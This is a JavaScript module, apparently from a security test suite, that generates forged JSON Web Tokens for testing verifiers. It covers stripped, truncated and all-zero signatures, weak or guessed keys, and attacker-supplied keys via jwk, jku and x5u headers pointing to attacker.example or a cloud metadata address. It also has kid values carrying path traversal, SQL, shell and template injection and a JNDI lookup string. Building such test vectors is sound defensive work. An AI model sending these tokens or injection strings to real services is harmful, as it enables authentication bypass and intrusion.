// Attacks through the signature, and through a key inside the token. Each vector returns a token.
import { createHash, createPublicKey } from 'node:crypto';
import { forge, HS256, luis, mac, part } from '../../support/forged.mjs';
import { SECRET, token } from '../../support/tokens.mjs';
import { byLibrary, claims, derOf, ec, ed, jwkOf, named, OTHER, rsa, withHeader } from './make.mjs';

export const SIGNATURES = {
  'signatures (CVE-2020-28042, CVE-2019-20933, CVE-2022-21449, CVE-2022-25898)': {
    none: () => `${part(HS256)}.${part(luis())}`,
    empty: () => forge(HS256, luis(), { signature: '' }),
    ...named([1, 2, 4, 16, 21, 22, 42], (length) => [
      `cut to ${length} characters`,
      () => ((text) => text.slice(0, text.lastIndexOf('.') + 1 + length))(forge(HS256, luis())),
    ]),
    ...named([1, 8, 16, 31], (length) => [
      `cut to ${length} bytes`,
      () =>
        ((text) => `${text}.${mac(text).subarray(0, length).toString('base64url')}`)(`${part(HS256)}.${part(luis())}`),
    ]),
    'cut at its start': () =>
      ((text) => `${text}.${mac(text).subarray(1).toString('base64url')}`)(`${part(HS256)}.${part(luis())}`),
    ...named(['A', 'AA', 'AAAA', '.', '..', '=', '%00', '#', '?'], (tail) => [
      `with ${tail} after it`,
      () => forge(HS256, luis()) + tail,
    ]),
    'with a zero byte after it': () =>
      ((text) => `${text}.${Buffer.concat([mac(text), Buffer.alloc(1)]).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    'with a zero byte before it': () =>
      ((text) => `${text}.${Buffer.concat([Buffer.alloc(1), mac(text)]).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    twice: () =>
      ((text) => `${text}.${Buffer.concat([mac(text), mac(text)]).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    reversed: () =>
      ((text) => `${text}.${mac(text).reverse().toString('base64url')}`)(`${part(HS256)}.${part(luis())}`),
    'with one bit changed': () =>
      ((text) => {
        const bytes = mac(text);
        bytes[31] ^= 1;
        return `${text}.${bytes.toString('base64url')}`;
      })(`${part(HS256)}.${part(luis())}`),
    'with its first bit changed': () =>
      ((text) => {
        const bytes = mac(text);
        bytes[0] ^= 128;
        return `${text}.${bytes.toString('base64url')}`;
      })(`${part(HS256)}.${part(luis())}`),
    'as hexadecimal digits': () => ((text) => `${text}.${mac(text).toString('hex')}`)(`${part(HS256)}.${part(luis())}`),
    'as hexadecimal digits in base64': () =>
      ((text) => `${text}.${part(mac(text).toString('hex'))}`)(`${part(HS256)}.${part(luis())}`),
    'encoded in base64 twice': () =>
      ((text) => `${text}.${part(mac(text).toString('base64url'))}`)(`${part(HS256)}.${part(luis())}`),
    'all zero': () => forge(HS256, luis(), { signature: part(Buffer.alloc(32)) }),
    'all ones': () => forge(HS256, luis(), { signature: part(Buffer.alloc(32, 255)) }),
    'all zero, of 64 bytes': () => forge(HS256, luis(), { signature: part(Buffer.alloc(64)) }),
    'all zero under ES256 (psychic)': () =>
      forge({ alg: 'ES256', typ: 'JWT' }, luis(), { signature: part(Buffer.alloc(64)) }),
    'all zero under ES256 as DER (psychic)': () =>
      forge({ alg: 'ES256', typ: 'JWT' }, luis(), { signature: part(Buffer.from('3006020100020100', 'hex')) }),
    'all zero under ES384 and ES512 (psychic)': () =>
      forge({ alg: 'ES512', typ: 'JWT' }, luis(), { signature: part(Buffer.alloc(132)) }),
    'of another token': async () => forge(HS256, luis(), { signature: (await token(5)).split('.')[2] }),
    'of the same claims under another header': () =>
      forge(HS256, luis(), { signature: forge({ alg: 'HS256' }, luis()).split('.')[2] }),
    'over the header alone': () => forge(HS256, luis(), { signature: mac(part(HS256)).toString('base64url') }),
    'over the payload alone': () =>
      ((payload) => `${part(HS256)}.${payload}.${mac(payload).toString('base64url')}`)(part(luis())),
    'over both parts without the dot': () =>
      ((header, payload) => `${header}.${payload}.${mac(header + payload).toString('base64url')}`)(
        part(HS256),
        part(luis()),
      ),
    'over the decoded parts': () =>
      ((payload) =>
        `${part(HS256)}.${part(payload)}.${mac(`${JSON.stringify(HS256)}.${payload}`).toString('base64url')}`)(
        claims(),
      ),
    'over the same text with the dot elsewhere': () =>
      ((header, payload, text) => `${header}.${payload}.${mac(text).toString('base64url')}`)(
        part(HS256),
        part(luis()),
        `${part(HS256)}${part(luis())}.`,
      ),
    'over an empty text': () => forge(HS256, luis(), { signature: mac('').toString('base64url') }),
    ...named(
      [
        ['an empty key', ''],
        ['one zero byte', '\0'],
        ['32 zero bytes', Buffer.alloc(32)],
        ['64 zero bytes', Buffer.alloc(64)],
        ['"secret"', 'secret'],
        ['"your-256-bit-secret"', 'your-256-bit-secret'],
        ['"changeme"', 'changeme'],
        ['"undefined"', 'undefined'],
        ['"null"', 'null'],
        ['the name of the variable', 'JWT_SECRET'],
        ['the secret in upper case', SECRET.toUpperCase()],
        ['the secret and a line break', `${SECRET}\n`],
        ['white space and the secret', ` ${SECRET}`],
        ['the secret without its last byte', SECRET.slice(0, -1)],
        ['the first 32 bytes of the secret', SECRET.slice(0, 32)],
        ['the secret in base64', Buffer.from(SECRET).toString('base64')],
        ['the secret in base64url', part(SECRET)],
        ['the secret decoded from base64', Buffer.from(SECRET, 'base64')],
        ['the secret in hexadecimal', Buffer.from(SECRET).toString('hex')],
        ['the hash of the secret', createHash('sha256').update(SECRET).digest()],
        ['the secret twice', SECRET + SECRET],
        ['the secret in UTF-16', Buffer.from(SECRET, 'utf16le')],
        ["the attacker's public key", createPublicKey(rsa.privateKey).export({ format: 'der', type: 'pkcs1' })],
      ],
      ([name, secret]) => [`keyed with ${name}`, () => forge(HS256, luis(), { secret })],
    ),
  },

  'omitted and changed parts': Object.fromEntries(
    [
      ['the payload omitted', ([header, , signature]) => `${header}..${signature}`],
      ['the payload and its dot omitted', ([header, , signature]) => `${header}.${signature}`],
      ['the header omitted', ([, payload, signature]) => `.${payload}.${signature}`],
      ['the header and its dot omitted', ([, payload, signature]) => `${payload}.${signature}`],
      ['header and signature omitted', ([, payload]) => `.${payload}.`],
      ['the payload alone', ([, payload]) => payload],
      ['the header alone', ([header]) => `${header}..`],
      ['the signature alone', ([, , signature]) => `..${signature}`],
      ['header and payload exchanged', ([header, payload, signature]) => `${payload}.${header}.${signature}`],
      [
        'a claim changed',
        ([header, payload, signature]) =>
          `${header}.${part(Buffer.from(payload, 'base64url').toString().replace('"6"', '"1"'))}.${signature}`,
      ],
      [
        'a claim added',
        ([header, payload, signature]) =>
          `${header}.${part(Buffer.from(payload, 'base64url').toString().replace('{', '{"x":1,'))}.${signature}`,
      ],
      [
        'white space added to the payload',
        ([header, payload, signature]) => `${header}.${part(`${Buffer.from(payload, 'base64url')} `)}.${signature}`,
      ],
      ['a header member added', ([, payload, signature]) => `${part({ ...HS256, kid: '1' })}.${payload}.${signature}`],
      [
        'the header written in another order',
        ([, payload, signature]) => `${part({ typ: 'JWT', alg: 'HS256' })}.${payload}.${signature}`,
      ],
    ].map(([name, of]) => [name, () => of(forge(HS256, luis()).split('.'))]),
  ),

  'keys inside the token (RFC 8725 2.9, 3.10, CVE-2018-0114)': {
    'jwk, RSA': () => byLibrary('RS256', rsa, { jwk: jwkOf(rsa) }),
    'jwk, EC': () => byLibrary('ES256', ec, { jwk: jwkOf(ec) }),
    'jwk, Ed25519': () => byLibrary('EdDSA', ed, { jwk: jwkOf(ed) }),
    'jwk, symmetric': () => withHeader({ jwk: { kty: 'oct', k: part(OTHER), alg: 'HS256' } }, { secret: OTHER }),
    'jwk with an empty key': () => withHeader({ jwk: { kty: 'oct', k: '' } }, { secret: '' }),
    jwks: () => withHeader({ jwks: { keys: [{ kty: 'oct', k: part(OTHER) }] } }, { secret: OTHER }),
    jku: () => byLibrary('RS256', rsa, { jku: 'https://attacker.example/jwks.json', kid: '1' }),
    'jku with a trusted host in its fragment': () =>
      byLibrary('RS256', rsa, { jku: 'https://attacker.example/#login.example.com' }),
    'jku with a trusted host as its user name': () =>
      byLibrary('RS256', rsa, { jku: 'https://login.example.com@attacker.example/' }),
    'jku to a cloud metadata service': () =>
      withHeader({ jku: 'http://169.254.169.254/latest/meta-data/' }, { secret: OTHER }),
    'jku as a data URL': () =>
      withHeader({ jku: `data:application/json,{"keys":[{"kty":"oct","k":"${part(OTHER)}"}]}` }, { secret: OTHER }),
    'jku to a file': () => withHeader({ jku: 'file:///dev/null' }, { secret: '' }),
    x5u: () => byLibrary('RS256', rsa, { x5u: 'https://attacker.example/cert.pem' }),
    x5c: () => byLibrary('RS256', rsa, { x5c: [derOf(rsa).toString('base64')] }),
    'x5c, keyed with it': () => withHeader({ x5c: [derOf(rsa).toString('base64')] }, { secret: derOf(rsa) }),
    "x5t of the attacker's certificate": () =>
      byLibrary('RS256', rsa, { x5t: createHash('sha1').update(derOf(rsa)).digest('base64url') }),
    "x5t#S256 of the attacker's certificate": () =>
      byLibrary('RS256', rsa, { 'x5t#S256': createHash('sha256').update(derOf(rsa)).digest('base64url') }),
    ...named(
      [
        ['../../../../../../dev/null', ''],
        ['/dev/null', ''],
        ['../../../../proc/sys/kernel/randomize_va_space', '2\n'],
        ['file:///etc/hostname', ''],
        ['/etc/passwd%00.key', ''],
        ['', ''],
        ['0', ''],
        ['__proto__', ''],
        ['constructor', 'function Object() { [native code] }'],
        ["x' UNION SELECT 'attacked-key-attacked-key-attacked'--", 'attacked-key-attacked-key-attacked'],
        ["' OR 1=1;--", ''],
        ['1; DROP TABLE users', ''],
        ['JWT_SECRET_PREVIOUS', ''],
        ['| id', ''],
        ['$(id)', ''],
        ['{{7*7}}', '49'],
        // biome-ignore lint/suspicious/noTemplateCurlyInString: the string itself is the attack
        ['${jndi:ldap://attacker.example/a}', ''],
        ['https://attacker.example/key', OTHER],
        [part(OTHER), OTHER],
      ],
      ([kid, secret]) => [
        `kid ${kid}, signed with the key that it would lead to (CVE-2021-41106)`,
        () => withHeader({ kid }, { secret }),
      ],
    ),
    ...named([1, true, null, ['1'], { $ne: 1 }], (kid) => [
      `kid ${JSON.stringify(kid)}, by another key`,
      () => withHeader({ kid }, { secret: OTHER }),
    ]),
    'a key in the claims': () =>
      forge(
        HS256,
        { ...luis(), jwk: { kty: 'oct', k: part(OTHER) }, cnf: { jwk: { kty: 'oct', k: part(OTHER) } } },
        { secret: OTHER },
      ),
  },
};
